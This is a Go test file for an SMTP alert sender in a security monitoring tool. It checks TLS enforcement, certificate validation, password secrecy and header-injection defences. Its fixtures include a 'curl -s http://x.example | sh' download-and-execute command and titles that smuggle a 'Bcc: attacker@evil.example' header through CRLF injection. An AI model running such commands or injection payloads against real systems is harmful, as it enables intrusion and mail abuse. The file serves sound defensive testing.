package alert

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"io"
	"math/big"
	"mime"
	"net"
	"net/mail"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/emersion/go-sasl"
	"github.com/emersion/go-smtp"
)

// mailServer is a real SMTP server (emersion/go-smtp) on loopback that
// records what each client did.
type mailServer struct {
	addr string
	pool *x509.CertPool // trusts the server's self-signed certificate

	mu       sync.Mutex
	auths    []string // "user:password" per AUTH attempt
	authTLS  []bool   // whether each AUTH happened over TLS
	mails    int      // MAIL FROM commands
	messages []received
}

type received struct {
	from string
	to   []string
	data []byte
	tls  bool
}

type mailSession struct {
	srv  *mailServer
	conn *smtp.Conn
	from string
	to   []string
}

func (s *mailSession) AuthMechanisms() []string { return []string{sasl.Plain} }
func (s *mailSession) Auth(string) (sasl.Server, error) {
	return sasl.NewPlainServer(func(_, user, pass string) error {
		_, isTLS := s.conn.TLSConnectionState()
		s.srv.mu.Lock()
		s.srv.auths = append(s.srv.auths, user+":"+pass)
		s.srv.authTLS = append(s.srv.authTLS, isTLS)
		s.srv.mu.Unlock()
		if user != "alerts" || pass != "s3cret-pw" {
			return &smtp.SMTPError{Code: 535, EnhancedCode: smtp.EnhancedCode{5, 7, 8}, Message: "bad credentials"}
		}
		return nil
	}), nil
}
func (s *mailSession) Mail(from string, _ *smtp.MailOptions) error {
	s.srv.mu.Lock()
	s.srv.mails++
	s.srv.mu.Unlock()
	s.from = from
	return nil
}
func (s *mailSession) Rcpt(to string, _ *smtp.RcptOptions) error {
	if strings.HasPrefix(to, "nobody@") {
		return &smtp.SMTPError{Code: 550, EnhancedCode: smtp.EnhancedCode{5, 1, 1}, Message: "no such user"}
	}
	s.to = append(s.to, to)
	return nil
}
func (s *mailSession) Data(r io.Reader) error {
	b, err := io.ReadAll(r)
	if err != nil {
		return err
	}
	_, isTLS := s.conn.TLSConnectionState()
	s.srv.mu.Lock()
	s.srv.messages = append(s.srv.messages, received{s.from, s.to, b, isTLS})
	s.srv.mu.Unlock()
	return nil
}
func (s *mailSession) Reset()        { s.from, s.to = "", nil }
func (s *mailSession) Logout() error { return nil }

// startMailServer starts a server; withTLS offers STARTTLS with a
// self-signed certificate for 127.0.0.1. AUTH is offered in plaintext too,
// so a client that would send its password without TLS is caught.
func startMailServer(t *testing.T, withTLS bool) *mailServer {
	t.Helper()
	ms := &mailServer{}
	srv := smtp.NewServer(smtp.BackendFunc(func(c *smtp.Conn) (smtp.Session, error) {
		return &mailSession{srv: ms, conn: c}, nil
	}))
	srv.Domain = "mail.test"
	srv.AllowInsecureAuth = true
	srv.ReadTimeout, srv.WriteTimeout = 10*time.Second, 10*time.Second
	srv.ErrorLog = testLogger{t}
	if withTLS {
		cert, pool := selfSigned(t)
		srv.TLSConfig = &tls.Config{Certificates: []tls.Certificate{cert}}
		ms.pool = pool
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ms.addr = l.Addr().String()
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return ms
}

type testLogger struct{ t *testing.T }

func (testLogger) Printf(string, ...any) {}
func (testLogger) Println(...any)        {}

func selfSigned(t *testing.T) (tls.Certificate, *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "mail.test"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(time.Hour),
		IPAddresses:  []net.IP{net.IPv4(127, 0, 0, 1)},
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, _ := x509.ParseCertificate(der)
	pool := x509.NewCertPool()
	pool.AddCert(cert)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pool
}

func (ms *mailServer) snapshot() (auths []string, authTLS []bool, mails int, msgs []received) {
	ms.mu.Lock()
	defer ms.mu.Unlock()
	return append([]string(nil), ms.auths...), append([]bool(nil), ms.authTLS...), ms.mails, append([]received(nil), ms.messages...)
}

func testAlert() Alert {
	return Alert{
		ID: "0123abcd", Time: time.Date(2026, 11, 25, 3, 40, 0, 0, time.UTC), Tenant: "acme", Rule: "cmd.download-exec",
		Severity: Critical, Title: "curl piped to sh", Description: "A cell downloaded and ran a script.\n.\nA line with only a dot above.",
		Technique: "T1105", User: "bob", Subject: "cell web", Evidence: map[string]any{"cmdline": "curl -s http://x.example | sh"}, Count: 1,
	}
}

func TestSMTPStartTLSAuthDelivery(t *testing.T) {
	ms := startMailServer(t, true)
	s, err := NewSMTP(SMTPConfig{Name: "mail", Address: ms.addr, From: "clawhold <clawhold@example.com>", To: []string{"sec@example.com", "Ops Team <ops@example.com>"},
		Username: "alerts", Password: []byte("s3cret-pw"), RootCAs: ms.pool, Hostname: "host.test"})
	if err != nil {
		t.Fatal(err)
	}
	a := testAlert()
	a.Title = "curl piped to sh\r\nBcc: attacker@evil.example\r\n\r\nforged body ü"
	if err := s.Send(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	auths, authTLS, _, msgs := ms.snapshot()
	if len(auths) != 1 || auths[0] != "alerts:s3cret-pw" || !authTLS[0] {
		t.Fatalf("AUTH = %v over TLS %v", auths, authTLS)
	}
	if len(msgs) != 1 || !msgs[0].tls || msgs[0].from != "clawhold@example.com" || strings.Join(msgs[0].to, ",") != "sec@example.com,ops@example.com" {
		t.Fatalf("messages = %+v", msgs)
	}
	m, err := mail.ReadMessage(strings.NewReader(string(msgs[0].data)))
	if err != nil {
		t.Fatal(err)
	}
	subj, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get("Subject"))
	if err != nil {
		t.Fatal(err)
	}
	if subj != "[clawhold] CRITICAL: curl piped to sh  Bcc: attacker@evil.example    forged body ü" {
		t.Fatalf("Subject = %q", subj)
	}
	if m.Header.Get("Bcc") != "" || len(m.Header) != 12 {
		t.Fatalf("header injection: %v", m.Header)
	}
	if d, err := m.Header.Date(); err != nil || !d.Equal(a.Time) {
		t.Fatalf("Date = %v, %v", d, err)
	}
	if id := m.Header.Get("Message-ID"); !strings.HasPrefix(id, "<0123abcd.") || !strings.HasSuffix(id, "@host.test>") {
		t.Fatalf("Message-ID = %q", id)
	}
	if from, err := m.Header.AddressList("From"); err != nil || from[0].Address != "clawhold@example.com" {
		t.Fatalf("From = %v, %v", from, err)
	}
	if to, err := m.Header.AddressList("To"); err != nil || len(to) != 2 || to[1].Name != "Ops Team" {
		t.Fatalf("To = %v, %v", to, err)
	}
	body, _ := io.ReadAll(m.Body)
	text := string(body)

	// An ASCII title is not encoded: still no header injection.
	a.Title = "x\nBcc: attacker@evil.example"
	if err := s.Send(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	_, _, _, msgs = ms.snapshot()
	m2, err := mail.ReadMessage(strings.NewReader(string(msgs[1].data)))
	if err != nil || m2.Header.Get("Bcc") != "" || m2.Header.Get("Subject") != "[clawhold] CRITICAL: x Bcc: attacker@evil.example" {
		t.Fatalf("ASCII injection: %v %v", m2.Header, err)
	}
	for _, want := range []string{"Rule:       cmd.download-exec", "Technique:  T1105", "curl -s http://x.example | sh", "\r\n.\r\nA line with only a dot"} {
		if !strings.Contains(text, want) {
			t.Errorf("body lacks %q:\n%s", want, text)
		}
	}
}

func TestSMTPRefusesWithoutStartTLS(t *testing.T) {
	ms := startMailServer(t, false) // offers AUTH in plaintext, no STARTTLS
	s, err := NewSMTP(SMTPConfig{Name: "mail", Address: ms.addr, From: "c@example.com", To: []string{"sec@example.com"},
		Username: "alerts", Password: []byte("s3cret-pw")})
	if err != nil {
		t.Fatal(err)
	}
	err = s.Send(t.Context(), testAlert())
	if err == nil || !IsPermanent(err) || !strings.Contains(err.Error(), "STARTTLS") {
		t.Fatalf("sent without STARTTLS: %v", err)
	}
	auths, _, mails, msgs := ms.snapshot()
	if len(auths) != 0 || mails != 0 || len(msgs) != 0 {
		t.Fatalf("the server saw AUTH %v, %d MAIL, %d messages", auths, mails, len(msgs))
	}
	if strings.Contains(err.Error(), "s3cret-pw") {
		t.Fatal("error reveals the password")
	}
}

func TestSMTPRefusesUntrustedCertificate(t *testing.T) {
	ms := startMailServer(t, true)
	s, _ := NewSMTP(SMTPConfig{Name: "mail", Address: ms.addr, From: "c@example.com", To: []string{"sec@example.com"},
		Username: "alerts", Password: []byte("s3cret-pw")}) // system roots only
	err := s.Send(t.Context(), testAlert())
	if err == nil || !IsPermanent(err) {
		t.Fatalf("untrusted certificate accepted: %v", err)
	}
	if auths, _, mails, _ := ms.snapshot(); len(auths) != 0 || mails != 0 {
		t.Fatalf("AUTH %v, MAIL %d after a failed handshake", auths, mails)
	}
}

func TestSMTPNoneOnlyOnLoopback(t *testing.T) {
	ms := startMailServer(t, false)
	s, err := NewSMTP(SMTPConfig{Name: "relay", Address: ms.addr, From: "c@example.com", To: []string{"sec@example.com"}, StartTLS: "none"})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Send(t.Context(), testAlert()); err != nil {
		t.Fatal(err)
	}
	if _, _, _, msgs := ms.snapshot(); len(msgs) != 1 || msgs[0].tls {
		t.Fatalf("messages %+v", msgs)
	}
	for _, addr := range []string{"smtp.example.com:25", "10.0.0.1:25", "[2001:db8::1]:25"} {
		if _, err := NewSMTP(SMTPConfig{Address: addr, From: "c@example.com", To: []string{"s@example.com"}, StartTLS: "none"}); err == nil {
			t.Errorf("starttls none accepted for %s", addr)
		}
	}
	for _, bad := range []SMTPConfig{
		{Address: "nohost", From: "c@example.com", To: []string{"s@example.com"}},
		{Address: "h:25", From: "not an address", To: []string{"s@example.com"}},
		{Address: "h:25", From: "c@example.com"},
		{Address: "h:25", From: "c@example.com", To: []string{"s@example.com"}, Username: "u"},
		{Address: "h:25", From: "c@example.com", To: []string{"s@example.com"}, StartTLS: "opportunistic"},
	} {
		if _, err := NewSMTP(bad); err == nil {
			t.Errorf("accepted %+v", bad)
		}
	}
}

func TestSMTPRejectionIsPermanent(t *testing.T) {
	ms := startMailServer(t, true)
	s, _ := NewSMTP(SMTPConfig{Name: "mail", Address: ms.addr, From: "c@example.com", To: []string{"nobody@example.com"}, RootCAs: ms.pool})
	err := s.Send(t.Context(), testAlert())
	if err == nil || !IsPermanent(err) || !strings.Contains(err.Error(), "550") {
		t.Fatalf("rejected recipient: %v", err)
	}
	s, _ = NewSMTP(SMTPConfig{Name: "mail", Address: ms.addr, From: "c@example.com", To: []string{"s@example.com"},
		Username: "alerts", Password: []byte("wrong"), RootCAs: ms.pool})
	if err := s.Send(t.Context(), testAlert()); err == nil || !IsPermanent(err) || strings.Contains(err.Error(), "wrong") {
		t.Fatalf("bad password: %v", err)
	}
}
